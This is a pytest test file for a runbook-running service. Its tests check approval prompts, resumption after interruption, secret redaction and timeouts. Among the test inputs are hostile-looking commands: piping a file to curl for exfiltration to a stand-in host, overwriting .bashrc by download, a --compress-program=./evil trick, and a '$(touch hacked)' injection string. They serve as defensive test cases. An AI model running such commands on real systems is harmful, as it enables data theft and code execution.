"""Going through procedures: asked, done, noted; stopped, killed, and gone on with."""

from __future__ import annotations

import os
import signal
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from chimera.builtin.services.runbooks import ledger as journal
from chimera.builtin.services.runbooks import performing
from chimera.builtin.services.runbooks.ledger import Ledger
from chimera.builtin.services.runbooks.performing import Performed, Performer
from chimera.builtin.services.runbooks.procedures import procedure_named, runbook_named
from chimera.builtin.services.runbooks.running import Going, Gone, begin, take_up
from chimera.builtin.services.spec.runbook import StepSpec
from chimera.model import Outcome, UsageError
from chimera.state import RunStatus
from chimera.workspace import Workspace
from tests.builtin.services.runbooks.conftest import Told, procedure

Write = Callable[..., None]
Open = Callable[..., Workspace]
LOOK = {"command": ["echo", "fine"]}
KEEP = {"command": ["echo", "log"], "save": "a.log", "preserves": ["logs"]}
CHANGE = {"command": ["touch", "changed"]}
LOSE = {**CHANGE, "risk": "destroys", "loses": ["logs"]}
FAIL = {"command": ["false"]}


def go(workspace: Workspace, person: Told, perform: Any = None, **given: str) -> Gone:
    """Go through the only procedure of the only runbook, or on with it."""
    book = runbook_named(workspace.loaded.snapshot, "book")
    chosen = procedure_named(book, None)
    ledger = take_up(workspace, "local", book, chosen)
    if ledger is None:
        ledger = begin(workspace, "local", book, chosen, given)
    return Going(workspace, ledger, person, perform).go()


def outcomes(gone: Gone) -> dict[str, str]:
    return {one["step"]: one["outcome"] for one in gone.record["steps"]}


def test_looks_are_done_at_once_and_changes_are_asked_for(
    write: Write, opened: Open, tmp_path: Path
) -> None:
    write(procedure(LOOK, CHANGE, LOOK))
    person = Told({"s2": ["yes"]})
    gone = go(opened(), person)
    assert person.asked == [("s2", ("yes", "no", "skip", "abort"), True)]
    assert gone.status == "succeeded"
    assert gone.outcome is Outcome.PASSED
    assert gone.has_changed
    assert outcomes(gone) == {"s1": "done", "s2": "done", "s3": "done"}
    assert (tmp_path / "changed").exists()


def test_a_blanket_yes_covers_no_destruction_and_no_decision(write: Write, opened: Open) -> None:
    write(
        procedure(
            KEEP,
            LOSE,
            {"instruction": "choose", "decision": True},
            {"instruction": "call somebody"},
            LOOK,
        )
    )
    person = Told({"s2": ["yes"], "s3": ["yes"], "s4": ["yes"]})
    go(opened(), person)
    assert [(step, plain) for step, _, plain in person.asked] == [
        ("s2", False),
        ("s3", False),
        ("s4", True),
    ]


@pytest.mark.parametrize(
    "step",
    [
        {"command": ["./grep", "x"], "risk": "reads"},
        {"command": ["python", "-c", "pass"], "risk": "reads"},
        {"shell": "true", "risk": "reads"},
        {"command": ["sort", "--compress-program=./evil", "a"], "risk": "reads"},
        {"command": ["kubectl", "--kubeconfig=evil.yaml", "get", "pods"], "risk": "reads"},
        {"pipe": [["cat", "a"], ["curl", "-fG", "http://a", "--data-urlencode", "x@-"]]},
        {"command": ["curl", "-f", "-o", ".bashrc", "http://a"]},
        {"command": ["redis-cli", "eval", "get"]},
        {"command": ["psql", "-c", "SELECT pg_terminate_backend(1)"]},
    ],
)
def test_what_is_not_known_to_only_look_is_asked_for(
    write: Write, opened: Open, step: dict[str, Any]
) -> None:
    write(procedure(step, LOOK))
    person = Told({"s1": ["skip"]})
    go(opened(), person)
    assert [asked for asked, *_ in person.asked] == ["s1"]


def test_a_no_stops_and_the_same_command_goes_on_there(
    write: Write, opened: Open, tmp_path: Path
) -> None:
    write(procedure(LOOK, CHANGE, LOOK))
    stopped = go(opened(), Told({"s2": ["no"]}))
    assert stopped.status == "paused"
    assert stopped.outcome is Outcome.NOT_EXERCISED
    assert not (tmp_path / "changed").exists()
    assert not list((tmp_path / ".chimera").glob("records/RunbookRun/*"))
    person = Told({"s2": ["yes"]})
    gone = go(opened("bob"), person)
    assert person.heard[0] == "s2"
    assert gone.ledger.run.uid == stopped.ledger.run.uid
    assert gone.record["by"] == ["ada", "bob"]
    assert [one["by"] for one in gone.record["steps"]] == ["ada", "bob", "bob"]


def test_nobody_to_answer_leaves_the_run_where_it_is(write: Write, opened: Open) -> None:
    write(procedure(LOOK, CHANGE, LOOK))
    with pytest.raises(UsageError, match="nobody answers for s2"):
        go(opened(), Told())
    person = Told({"s2": ["yes"]})
    assert go(opened(), person).status == "succeeded"
    assert "s1" not in person.heard


def test_an_abort_ends_the_run_and_is_recorded(write: Write, opened: Open, tmp_path: Path) -> None:
    write(procedure(CHANGE, LOOK))
    workspace = opened()
    gone = go(workspace, Told({"s1": ["abort:too late"]}))
    assert (gone.status, gone.outcome) == ("aborted", Outcome.FAILED)
    assert gone.record["steps"][0]["note"] == "too late"
    with workspace.read_state() as state:
        assert state.run(gone.ledger.run.uid).status is RunStatus.CANCELLED
    assert not (tmp_path / "changed").exists()
    again = go(opened(), Told({"s1": ["skip"]}))
    assert again.ledger.run.uid != gone.ledger.run.uid


def test_evidence_that_was_skipped_stops_what_destroys_it(
    write: Write, opened: Open, tmp_path: Path
) -> None:
    write(procedure({**KEEP, "command": ["false"]}, LOSE, LOOK))
    person = Told({"s1": ["skip"], "s2": ["skip"]})
    gone = go(opened(), person)
    assert person.asked[0] == ("s1", ("yes", "no", "skip", "unavailable", "abort"), False)
    assert person.asked[1] == ("s2", ("no", "skip", "abort"), False)
    assert outcomes(gone)["s2"] == "skipped"
    assert not (tmp_path / "changed").exists()


def test_evidence_that_is_unavailable_says_why_and_lets_go_on(
    write: Write, opened: Open, tmp_path: Path
) -> None:
    write(procedure({**KEEP, "command": ["false"]}, LOSE, LOOK))
    gone = go(opened(), Told({"s1": ["unavailable:the pod is gone"], "s2": ["yes"]}))
    assert gone.record["steps"][0]["note"] == "the pod is gone"
    assert outcomes(gone) == {"s1": "unavailable", "s2": "done", "s3": "done"}
    assert (tmp_path / "changed").exists()


def test_empty_evidence_is_none(write: Write, opened: Open) -> None:
    write(procedure({**KEEP, "command": ["true"]}, LOOK))
    gone = go(opened(), Told({"s1": ["skip"]}))
    assert gone.ledger.entries["s1"].came is not None
    assert outcomes(gone)["s1"] == "skipped"


def test_a_failed_change_is_asked_again_and_a_failed_look_is_not(
    write: Write, opened: Open
) -> None:
    write(procedure(FAIL, {**FAIL, "risk": "changes"}, LOOK))
    person = Told({"s2": ["yes", "yes", "skip"]})
    gone = go(opened(), person)
    assert [step for step, *_ in person.asked] == ["s2", "s2", "s2"]
    assert gone.status == "failed", "nothing changed, and a look failed"


def test_what_counts_is_what_was_found_after_the_last_change(write: Write, opened: Open) -> None:
    write(procedure(FAIL, CHANGE, LOOK))
    assert go(opened(), Told({"s2": ["yes"]})).status == "succeeded"
    write(procedure(LOOK, CHANGE, FAIL))
    assert go(opened(), Told({"s2": ["yes"]})).status == "failed"


def test_grep_that_finds_nothing_has_not_failed(write: Write, opened: Open) -> None:
    write(procedure({"pipe": [["echo", "a"], ["grep", "b"]]}))
    gone = go(opened(), Told())
    assert gone.status == "succeeded"
    assert "wrote nothing" in gone.record["steps"][0]["message"]


def test_a_pipe_fails_where_any_of_its_programs_does(write: Write, opened: Open) -> None:
    write(procedure({"pipe": [["false"], ["cat"]], "risk": "reads"}))
    gone = go(opened(), Told())
    assert gone.record["steps"][0]["message"] == "false ended with exit code 1"


def test_no_shell_reads_a_command(write: Write, opened: Open, tmp_path: Path) -> None:
    write(
        procedure(
            {"command": ["echo", "${what}"], "risk": "reads"},
            inputs={"what": {"asks": "what"}},
        )
    )
    gone = go(opened(), Told(), what="$(touch hacked); touch hacked")
    assert gone.record["steps"][0]["output"] == "$(touch hacked); touch hacked"
    assert not (tmp_path / "hacked").exists()


def test_what_takes_too_long_is_ended(write: Write, opened: Open) -> None:
    write(procedure({"command": ["sleep", "60"], "risk": "reads", "timeout": "50ms"}))
    gone = go(opened(), Told())
    assert gone.record["steps"][0]["message"] == "sleep took longer than its time"


def test_a_cut_output_is_not_kept(
    write: Write, opened: Open, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(performing, "MOST_OUTPUT", 10)
    write(procedure({**KEEP, "command": ["echo", "x" * 20]}, LOOK))
    gone = go(opened(), Told({"s1": ["skip"]}))
    assert gone.ledger.entries["s1"].came is not None
    assert not list((opened().root / ".chimera" / "runbooks").glob("*/a.log"))


def test_secrets_reach_neither_file_nor_journal_nor_record(
    write: Write, opened: Open, tmp_path: Path
) -> None:
    write(procedure({**KEEP, "command": ["echo", "token=hunter2hunter2"]}, LOOK))
    go(opened(secret="hunter2hunter2"), Told())
    kept = [path for path in (tmp_path / ".chimera").rglob("*") if path.is_file()]
    assert any(path.name == "a.log" for path in kept)
    assert not any(b"hunter2" in path.read_bytes() for path in kept)
    with opened().read_state() as state:
        (run,) = state.runs(environment="local")
        told = [str(event.data) for event in state.events(run.uid)]
    assert any("token=***" in text for text in told)
    assert not any("hunter2" in text for text in told)


def test_automation_goes_through_nothing(write: Write, opened: Open) -> None:
    write(procedure(LOOK))
    with pytest.raises(UsageError, match="ci is automation"):
        go(opened("ci", "automation"), Told())


def test_two_people_do_not_go_through_one_run(write: Write, opened: Open) -> None:
    write(procedure(CHANGE, LOOK))
    workspace = opened()
    go(workspace, Told({"s1": ["no"]}))
    book = runbook_named(workspace.loaded.snapshot, "book")
    chosen = procedure_named(book, None)
    mine = take_up(workspace, "local", book, chosen)
    theirs = take_up(opened("bob"), "local", book, chosen)
    assert mine is not None
    assert theirs is not None
    theirs.begin("s1")
    with pytest.raises(UsageError, match="somebody else has gone on"):
        mine.begin("s1")


def test_a_run_that_is_over_takes_nothing_more(write: Write, opened: Open) -> None:
    write(procedure(LOOK))
    gone = go(opened(), Told())
    with pytest.raises(UsageError, match="is over: succeeded"):
        Ledger(opened(), gone.ledger.run).begin("s1")


def test_a_run_goes_on_as_it_was_begun_though_the_runbook_has_changed(
    write: Write, opened: Open, tmp_path: Path
) -> None:
    write(procedure(LOOK, CHANGE, LOOK))
    go(opened(), Told({"s2": ["no"]}))
    write(procedure(LOOK, {"command": ["touch", "other"]}, LOOK))
    go(opened(), Told({"s2": ["yes"]}))
    assert (tmp_path / "changed").exists()
    assert not (tmp_path / "other").exists()


def killed(workspace: Workspace) -> None:
    """Go through it in another process, which is killed in the midst of the second step."""
    child = os.fork()
    if child == 0:
        try:
            real = Performer(workspace, "local", workspace.root / ".chimera" / "x").perform

            def perform(step: StepSpec) -> Performed:
                if step.id == "s2":
                    os.kill(os.getpid(), signal.SIGKILL)
                return real(step)

            go(workspace, Told({"s2": ["yes"]}), perform)
        finally:
            os._exit(9)
    assert os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == -signal.SIGKILL


@pytest.mark.skipif(not hasattr(os, "fork"), reason="needs fork")
def test_killed_in_the_midst_it_goes_on_at_the_step_and_asks_whether_it_was_done(
    write: Write, opened: Open, tmp_path: Path
) -> None:
    write(procedure(LOOK, CHANGE, LOOK))
    killed(opened())
    person = Told({"s2": ["done"]})
    gone = go(opened("bob"), person)
    assert person.asked == [("s2", ("yes", "done", "no", "skip", "abort"), False)]
    assert person.heard[0] == "s2"
    assert outcomes(gone) == {"s1": "done", "s2": "done", "s3": "done"}
    assert gone.record["by"] == ["ada", "bob"]
    assert not (tmp_path / "changed").exists()


@pytest.mark.skipif(not hasattr(os, "fork"), reason="needs fork")
def test_killed_in_the_midst_of_a_look_it_just_looks_again(write: Write, opened: Open) -> None:
    write(procedure(LOOK, LOOK, LOOK))
    killed(opened())
    person = Told()
    assert go(opened(), person).status == "succeeded"
    assert person.asked == []
    assert "s1" not in person.heard


@pytest.mark.parametrize(("answer", "status"), [("abort", "aborted"), ("yes", "succeeded")])
def test_a_run_that_is_cut_off_at_its_very_end_ends_the_same_way(
    write: Write, opened: Open, monkeypatch: pytest.MonkeyPatch, answer: str, status: str
) -> None:
    write(procedure(CHANGE, LOOK))

    def cut(*arguments: object) -> None:
        raise KeyboardInterrupt

    with monkeypatch.context() as patch:
        patch.setattr(Ledger, "close", cut)
        with pytest.raises(KeyboardInterrupt):
            go(opened(), Told({"s1": [answer]}))
    person = Told()
    assert go(opened(), person).status == status
    assert person.heard == []


def test_a_run_is_never_due_by_itself(write: Write, opened: Open) -> None:
    from chimera.runtime import due_runs

    write(procedure(CHANGE, LOOK))
    workspace = opened()
    gone = go(workspace, Told({"s1": ["no"]}))
    with workspace.read_state() as state:
        assert state.run(gone.ledger.run.uid).status is RunStatus.PAUSED
        assert due_runs(state, "local", workspace.context.clock.now()) == ()


def test_a_run_that_was_resumed_like_another_still_goes_on_here(write: Write, opened: Open) -> None:
    write(procedure(CHANGE, LOOK))
    workspace = opened()
    gone = go(workspace, Told({"s1": ["no"]}))
    with workspace.open_state("test") as state:
        state.record(gone.ledger.run.uid, status=RunStatus.INTERRUPTED)
    again = go(opened(), Told({"s1": ["yes"]}))
    assert (again.status, again.ledger.run.uid) == ("succeeded", gone.ledger.run.uid)


def test_the_record_is_a_document_that_is_sound(write: Write, opened: Open, tmp_path: Path) -> None:
    write(procedure(KEEP, LOSE, LOOK))
    gone = go(opened(), Told({"s2": ["yes"]}))
    (path,) = (tmp_path / ".chimera" / "records" / "RunbookRun").iterdir()
    assert path.stem == gone.name
    (tmp_path / "specs" / "record.yaml").write_bytes(path.read_bytes())
    loaded = opened().loaded
    assert loaded.diagnostics == ()
    step = gone.record["steps"][0]
    assert (tmp_path / step["file"]).read_text() == "log\n"
    assert step["digest"].startswith("sha256:")


def test_a_step_can_itself_take_the_lock(
    write: Write, opened: Open, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(procedure(CHANGE, LOOK))
    workspace = opened()
    monkeypatch.setattr(journal, "_WAIT_TO_BEGIN", 0.0)

    def perform(step: StepSpec) -> Performed:
        with workspace.open_state("apply"):
            return Performed(True, "applied")

    assert go(workspace, Told({"s1": ["yes"]}), perform).status == "succeeded"
